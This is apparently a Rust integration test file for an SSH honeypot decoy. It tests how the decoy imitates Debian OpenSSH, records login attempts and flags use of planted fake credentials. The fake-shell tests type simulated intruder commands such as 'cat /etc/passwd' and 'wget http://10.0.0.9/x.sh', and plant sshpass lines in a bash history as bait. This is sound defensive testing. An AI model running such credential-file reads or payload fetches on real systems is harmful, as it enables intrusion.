//! The SSH decoy against the real OpenSSH client, sshpass, ssh-keyscan and a real
//! Debian sshd: failures look like the real server's, every attempt is stored, host
//! keys persist, and planted passwords and keys raise token hits.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failed test, not a crashed decoy

mod common;

use std::net::SocketAddr;
use std::process::{Command, Output, Stdio};

use common::*;

const CLIENT_OPTS: &[&str] = &["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=10"];

fn ssh_decoy(name: &str) -> String {
    format!("  - name: {name}\n    type: ssh\n    listen: 127.0.0.1:0\n    failure_delay_ms: 50\n")
}

fn ssh(addr: SocketAddr, user: &str, extra: &[&str], password: Option<&str>) -> Output {
    let port = addr.port().to_string();
    let mut cmd = match password {
        Some(p) => {
            let mut c = Command::new("sshpass");
            c.args(["-p", p, "ssh"]);
            c
        }
        None => Command::new("ssh"),
    };
    cmd.args(["-p", &port]).args(CLIENT_OPTS).args(extra).arg(format!("{user}@{}", addr.ip())).arg("true");
    cmd.stdin(Stdio::null()).output().expect("ssh (openssh-client) and sshpass must be installed: scripts/test.sh installs them")
}

fn keyscan(addr: SocketAddr) -> Vec<String> {
    let out = Command::new("ssh-keyscan").args(["-p", &addr.port().to_string(), "-t", "rsa,ecdsa,ed25519"]).arg(addr.ip().to_string()).output().unwrap();
    let mut keys: Vec<String> = String::from_utf8_lossy(&out.stdout).lines().filter(|l| !l.starts_with('#')).map(str::to_string).collect();
    keys.sort();
    keys
}

fn auths(db: &rusqlite::Connection, method: &str) -> Vec<serde_json::Value> {
    bodies(db, "ssh_auth").into_iter().filter(|b| b["details"]["method"] == method).collect()
}

#[test]
fn a_wrong_password_is_refused_like_debian_sshd_and_stored_once_per_attempt() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&ssh_decoy("ssh")));
    let addr = hw.addr("ssh");
    let out = ssh(addr, "alice", &[], Some("wrong"));
    assert_eq!(out.status.code(), Some(5), "sshpass reports a wrong password: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("Permission denied, please try again."));
    let batch = ssh(addr, "alice", &["-o", "BatchMode=yes"], None);
    assert!(String::from_utf8_lossy(&batch.stderr).contains("Permission denied (publickey,password)."), "{}", String::from_utf8_lossy(&batch.stderr));

    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "connection_closed") == 2));
    let tried = auths(&db, "password");
    assert_eq!(tried.len(), 1, "one stored attempt per password tried");
    assert_eq!(tried[0]["details"]["username"]["text"], "alice");
    assert_eq!(tried[0]["details"]["password"]["text"], "wrong");
    assert_eq!(tried[0]["details"]["accepted"], false);

    // The client's software and HASSH, once per connection.
    let clients = bodies(&db, "ssh_client");
    assert_eq!(clients.len(), 2);
    assert!(clients[0]["details"]["version"]["text"].as_str().unwrap().starts_with("SSH-2.0-OpenSSH_"));
    let hassh = clients[0]["details"]["hassh"].as_str().unwrap();
    assert!(hassh.len() == 32 && hassh.bytes().all(|b| b.is_ascii_hexdigit()));
    assert_eq!(clients[0]["details"]["hassh"], clients[1]["details"]["hassh"], "same client, same HASSH");
}

#[test]
fn the_banner_shows_and_host_keys_persist_per_decoy_across_restarts() {
    let dir = tempfile::tempdir().unwrap();
    let yaml = config(&(ssh_decoy("one") + &ssh_decoy("two")));
    let mut hw = Honeyward::start(dir.path(), &yaml);
    let verbose = ssh(hw.addr("one"), "bob", &["-v", "-o", "BatchMode=yes"], None);
    assert!(String::from_utf8_lossy(&verbose.stderr).contains("remote software version OpenSSH_9.2p1 Debian-2+deb12u10"));
    let (one, two) = (keyscan(hw.addr("one")), keyscan(hw.addr("two")));
    assert_eq!(one.len(), 3, "rsa, ecdsa and ed25519 host keys: {one:?}");
    let strip = |keys: &[String]| keys.iter().map(|k| k.split_once(' ').unwrap().1.to_string()).collect::<Vec<_>>();
    assert!(strip(&one).iter().all(|k| !strip(&two).contains(k)), "two decoys share a host key");
    assert!(hw.stop().success());

    let hw = Honeyward::start(dir.path(), &yaml);
    assert_eq!(strip(&keyscan(hw.addr("one"))), strip(&one), "host keys changed across a restart");
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(dir.path().join("honeyward-state/ssh/one/ssh_host_ed25519_key")).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600);
}

// The KEXINIT, ssh -vvv, ssh-audit and nmap comparisons with the real sshd are in
// tests/ssh_vs_real_servers.rs.

#[test]
fn a_planted_password_used_with_sshpass_raises_a_critical_token_hit() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&ssh_decoy("ssh")));
    let addr = hw.addr("ssh");
    let out = cli(
        dir.path(),
        &["token", "create", "ssh-password", "--label", "backup svc on pacs-ws-12", "--endpoint", &format!("ssh://{addr}"), "--plant", "home/.bash_history"],
    );
    let id = out.split_whitespace().find(|w| w.starts_with("tok-")).unwrap().to_string();
    let history = std::fs::read_to_string(dir.path().join("home/.bash_history")).unwrap();
    let line = history.lines().find(|l| l.starts_with("sshpass -p '") && l.contains(" ssh ")).unwrap();
    let password = line.split('\'').nth(1).unwrap().to_string();
    // user@host is the last word (the password itself may contain an '@').
    let user = line.split_whitespace().last().unwrap().split('@').next().unwrap().to_string();
    assert!(line.contains(&format!("-p {}", addr.port())), "history points at the decoy: {line}");
    std::thread::sleep(std::time::Duration::from_millis(1200)); // the running process reloads its matcher

    let out = ssh(addr, &user, &[], Some(&password));
    let db = hw.store();
    assert!(eventually(10, || auths(&db, "password").len() == 1), "{:?} {} {:?}", out, line, bodies(&db, "ssh_auth"));
    let hit = &auths(&db, "password")[0];
    assert_eq!(hit["token"]["id"], id.as_str());
    assert_eq!(hit["token"]["label"], "backup svc on pacs-ws-12");
    assert!(hit["token"]["plants"][0]["path"].as_str().unwrap().ends_with("home/.bash_history"));
    assert!(hit["details"].get("password").is_none(), "the planted password is not stored");
    let raw = std::fs::read(dir.path().join("honeyward.db")).unwrap();
    assert!(!raw.windows(password.len()).any(|w| w == password.as_bytes()));
    let json = cli(dir.path(), &["events", "list", "--json", "--kind", "ssh_auth"]);
    let line: serde_json::Value =
        json.lines().map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()).find(|v| v["details"]["method"] == "password").unwrap();
    assert_eq!(line["severity"], "critical");
    assert_eq!(line["attack"]["id"], "T1552.003", "a password planted in a shell history");
}

#[test]
fn a_planted_key_offered_with_ssh_i_raises_a_token_hit() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&ssh_decoy("ssh")));
    let out = cli(dir.path(), &["token", "create", "ssh-key", "--label", "deploy key", "--username", "deploy", "--plant", "keys/id_ed25519"]);
    let id = out.split_whitespace().find(|w| w.starts_with("tok-")).unwrap().to_string();
    std::thread::sleep(std::time::Duration::from_millis(1200));
    let key = dir.path().join("keys/id_ed25519");
    ssh(hw.addr("ssh"), "deploy", &["-i", key.to_str().unwrap(), "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes"], None);
    let db = hw.store();
    assert!(eventually(10, || !auths(&db, "publickey").is_empty()));
    let offer = &auths(&db, "publickey")[0];
    assert_eq!(offer["token"]["id"], id.as_str());
    assert!(offer["details"]["key_fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    assert_eq!(offer["details"]["key_algorithm"], "ssh-ed25519");
}

#[test]
fn nmap_service_detection_reports_the_personality_version() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&ssh_decoy("ssh")));
    let addr = hw.addr("ssh");
    let out = Command::new("nmap")
        .args(["-sV", "-Pn", "-n", "-p", &addr.port().to_string(), "127.0.0.1"])
        .output()
        .expect("nmap must be installed: scripts/test.sh installs it");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("open  ssh") && text.contains("OpenSSH 9.2p1 Debian 2+deb12u10"), "{text}");
}

#[test]
fn the_sixth_failure_ends_the_connection_with_too_many_authentication_failures() {
    let dir = tempfile::tempdir().unwrap();
    let hw = Honeyward::start(dir.path(), &config(&ssh_decoy("ssh").replace("failure_delay_ms: 50", "failure_delay_ms: 0")));
    // An askpass helper answers every password prompt, so ssh keeps trying.
    let askpass = dir.path().join("askpass.sh");
    std::fs::write(&askpass, "#!/bin/sh\necho toor\n").unwrap();
    std::fs::set_permissions(&askpass, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let addr = hw.addr("ssh");
    let out = Command::new("ssh")
        .args(["-p", &addr.port().to_string()])
        .args(CLIENT_OPTS)
        .args(["-o", "NumberOfPasswordPrompts=10", "-o", "PreferredAuthentications=password", "root@127.0.0.1", "true"])
        .env("SSH_ASKPASS", &askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env_remove("DISPLAY")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("Too many authentication failures"), "{err}");
    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "connection_closed") == 1));
    assert_eq!(auths(&db, "password").len(), 6, "MaxAuthTries 6, every attempt stored");
}

#[test]
fn with_accept_tokens_a_planted_password_gets_the_fake_shell_and_every_line_is_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let decoy = ssh_decoy("ssh").replace("failure_delay_ms: 50", "failure_delay_ms: 0") + "    accept: tokens\n";
    let hw = Honeyward::start(dir.path(), &config(&decoy));
    let addr = hw.addr("ssh");
    cli(
        dir.path(),
        &[
            "token",
            "create",
            "ssh-password",
            "--label",
            "pacs admin",
            "--username",
            "radadmin",
            "--password",
            "Kelvo-Mistan-Baiper47!",
            "--plant",
            "h/.bash_history",
        ],
    );
    std::thread::sleep(std::time::Duration::from_millis(1200));

    // A wrong password is still refused.
    assert_eq!(ssh(addr, "radadmin", &[], Some("guess")).status.code(), Some(5));

    // exec: `ssh host 'cmd; cmd'`
    let out = ssh_cmd(addr, "radadmin", "Kelvo-Mistan-Baiper47!", &[], "uname -a; id; ls -la /etc; cat /etc/passwd");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.starts_with("Linux pacs-archive01 6.1.0-28-amd64"), "{text}");
    assert!(text.contains("uid=1001(radadmin)") && text.contains(" passwd\n") && text.contains("root:x:0:0:root:/root:/bin/bash"), "{text}");

    // An interactive shell, typed into.
    let mut child = Command::new("sshpass")
        .args(["-p", "Kelvo-Mistan-Baiper47!", "ssh", "-tt", "-p", &addr.port().to_string()])
        .args(CLIENT_OPTS)
        .arg("radadmin@127.0.0.1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.as_mut().unwrap().write_all(b"whoami\nwget http://10.0.0.9/x.sh\nexit\n").unwrap();
    let out = child.wait_with_output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("radadmin@pacs-archive01:~$ ") && shown.contains("-bash: wget: command not found"), "{shown}");

    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "ssh_session_closed") == 2));
    let lines: Vec<String> = bodies(&db, "ssh_command").iter().map(|c| c["details"]["line"]["text"].as_str().unwrap().to_string()).collect();
    assert_eq!(lines, ["uname -a; id; ls -la /etc; cat /etc/passwd", "whoami", "wget http://10.0.0.9/x.sh", "exit"]);
    let accepted: Vec<_> = auths(&db, "password").into_iter().filter(|a| a["details"]["accepted"] == true).collect();
    assert_eq!(accepted.len(), 2);
    assert_eq!(accepted[0]["token"]["label"], "pacs admin");

    // The recordings parse as asciicast v2 and match their recorded hash.
    for closed in bodies(&db, "ssh_session_closed") {
        let path = closed["details"]["recording"].as_str().unwrap();
        let raw = std::fs::read(path).unwrap();
        let text = String::from_utf8(raw.clone()).unwrap();
        let mut rows = text.lines();
        let header: serde_json::Value = serde_json::from_str(rows.next().unwrap()).unwrap();
        assert_eq!(header["version"], 2);
        for row in rows {
            let ev: serde_json::Value = serde_json::from_str(row).unwrap();
            assert!(ev[0].is_f64() && (ev[1] == "o" || ev[1] == "i") && ev[2].is_string(), "{row}");
        }
        use sha2_check::hex_sha256;
        assert_eq!(closed["details"]["sha256"], hex_sha256(&raw));
    }
}

/// After login the transport re-keys when the client asks (OpenSSH's RekeyLimit), with
/// zlib@openssh.com on, keepalives answered and the session intact.
#[test]
fn a_logged_in_client_rekeys_compresses_and_keeps_alive_mid_session() {
    let dir = tempfile::tempdir().unwrap();
    let decoy = ssh_decoy("ssh").replace("failure_delay_ms: 50", "failure_delay_ms: 0") + "    accept: tokens\n";
    let hw = Honeyward::start(dir.path(), &config(&decoy));
    let addr = hw.addr("ssh");
    cli(
        dir.path(),
        &["token", "create", "ssh-password", "--label", "ris svc", "--username", "svc_ris", "--password", "Tarmo-Velik-Osten91!", "--plant", "h/notes.txt"],
    );
    std::thread::sleep(std::time::Duration::from_millis(1200));
    let command = ["cat /etc/passwd"; 12].join("; ");
    let out = ssh_cmd(addr, "svc_ris", "Tarmo-Velik-Osten91!", &["-v", "-C", "-o", "RekeyLimit=1K", "-o", "ServerAliveInterval=1"], &command);
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert_eq!(text.matches("root:x:0:0:root:/root:/bin/bash").count(), 12, "{text}");
    assert!(err.matches("SSH2_MSG_NEWKEYS received").count() >= 2, "a second key exchange happened: {err}");
    assert!(err.contains("compression: zlib@openssh.com"), "{err}");
    // The planted user's story holds: the session's /etc/passwd has them.
    assert!(text.contains("svc_ris:x:"), "{text}");
}

fn ssh_cmd(addr: SocketAddr, user: &str, password: &str, extra: &[&str], command: &str) -> Output {
    Command::new("sshpass")
        .args(["-p", password, "ssh", "-p", &addr.port().to_string()])
        .args(CLIENT_OPTS)
        .args(extra)
        .arg(format!("{user}@{}", addr.ip()))
        .arg(command)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

mod sha2_check {
    /// SHA-256 via the system's sha256sum (a reference independent of our code).
    pub fn hex_sha256(data: &[u8]) -> String {
        use std::io::Write;
        let mut child = std::process::Command::new("sha256sum").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
        child.stdin.as_mut().unwrap().write_all(data).unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).split_whitespace().next().unwrap().to_string()
    }
}

#[test]
fn port_forwarding_and_sftp_are_refused_and_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let decoy =
        ssh_decoy("ssh").replace("failure_delay_ms: 50", "failure_delay_ms: 0") + "    accept:\n      - username: backup\n        password: backup123\n";
    let hw = Honeyward::start(dir.path(), &config(&decoy));
    let addr = hw.addr("ssh");
    // -W asks for a direct-tcpip channel to a host behind the decoy.
    let out = ssh_cmd(addr, "backup", "backup123", &["-W", "10.20.0.5:445"], "");
    assert!(!out.status.success());
    let out = ssh_cmd(addr, "backup", "backup123", &["-s"], "sftp");
    assert!(!out.status.success() || out.stdout.is_empty());
    let db = hw.store();
    assert!(eventually(10, || count_kind(&db, "ssh_request_refused") == 2));
    let refused = bodies(&db, "ssh_request_refused");
    assert_eq!(refused[0]["details"]["request"], "direct-tcpip");
    assert_eq!(refused[0]["details"]["target"]["text"], "10.20.0.5:445");
    assert_eq!(refused[1]["details"]["target"]["text"], "sftp");
}

#[test]
fn a_personality_that_offers_keyboard_interactive_asks_for_password_and_records_it() {
    let dir = tempfile::tempdir().unwrap();
    let yaml = include_str!("../decoys/openssh-debian12.yaml")
        .replace("auth_methods: [publickey, password]", "auth_methods: [publickey, keyboard-interactive, password]");
    std::fs::write(dir.path().join("kbd.yaml"), yaml).unwrap();
    let decoy = ssh_decoy("ssh") + "    personality: kbd.yaml\n";
    let hw = Honeyward::start(dir.path(), &config(&decoy));
    let batch = ssh(hw.addr("ssh"), "alice", &["-o", "BatchMode=yes"], None);
    assert!(String::from_utf8_lossy(&batch.stderr).contains("Permission denied (publickey,keyboard-interactive,password)."));
    let out = ssh(hw.addr("ssh"), "alice", &["-o", "PreferredAuthentications=keyboard-interactive"], Some("letmein"));
    assert_eq!(out.status.code(), Some(5), "{}", String::from_utf8_lossy(&out.stderr));
    let db = hw.store();
    assert!(eventually(10, || auths(&db, "keyboard_interactive").len() == 1));
    assert_eq!(auths(&db, "keyboard_interactive")[0]["details"]["password"]["text"], "letmein");
}
